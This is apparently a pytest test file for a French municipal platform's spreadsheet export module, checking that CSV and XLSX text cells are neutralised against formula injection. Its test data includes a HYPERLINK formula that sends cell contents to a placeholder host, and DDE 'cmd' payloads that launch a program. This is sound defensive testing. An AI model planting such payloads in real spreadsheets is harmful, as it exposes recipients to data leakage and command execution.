"""Formula injection (OWASP « CSV injection »): every text cell of the platform's CSV and XLSX files that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from contrat_ville.core.imports.cells import cell_text
from contrat_ville.core.spreadsheets import csv_writer, safe_cell, workbook_bytes, write_sheet

PAYLOAD = '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("- une action", "'- une action"),
        ("Réussite éducative", "Réussite éducative"),
        ("a=b", "a=b"),
        ("", ""),
        # Figures written as text are read as numbers, never as formulas: left as they are.
        ("-3,5", "-3,5"),
        ("-1 234,5 €", "-1 234,5 €"),
        ("+12 %", "+12 %"),
        ("-1.5e3", "-1.5e3"),
        # Typed values are never touched.
        (-3.5, -3.5),
        (-12, -12),
        (Decimal("-4.20"), Decimal("-4.20")),
        (None, None),
        (datetime.date(2026, 1, 31), datetime.date(2026, 1, 31)),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_the_csv_writer_neutralises_every_text_cell():
    buffer = io.StringIO()
    writer = csv_writer(buffer, delimiter=";")
    writer.writerow(["Titre", "=Montant"])
    writer.writerows([[PAYLOAD, -3.5], ["Ordinaire", "-12,5"]])
    writer.writedict(["a", "b"], {"a": "@x", "b": "-1"})
    rows = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    assert rows == [["Titre", "'=Montant"], ["'" + PAYLOAD, "-3.5"], ["Ordinaire", "-12,5"], ["'@x", "-1"]]


def test_write_sheet_stores_text_as_text_and_numbers_as_numbers():
    workbook = Workbook()
    write_sheet(workbook.active, ["Titre", "Montant"], [[PAYLOAD, -3.5], ["@SUM(A1)", Decimal("-2")]])
    sheet = load_workbook(io.BytesIO(workbook_bytes(workbook))).active
    assert sheet["A2"].value == "'" + PAYLOAD and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -3.5 and sheet["B2"].data_type == "n"
    assert sheet["A3"].value == "'@SUM(A1)" and sheet["B3"].value == -2


def test_an_exported_cell_imports_back_as_it_was():
    assert cell_text(safe_cell(PAYLOAD)) == PAYLOAD
    assert cell_text(safe_cell("- une action")) == "- une action"
    assert cell_text("'ordinaire") == "'ordinaire"
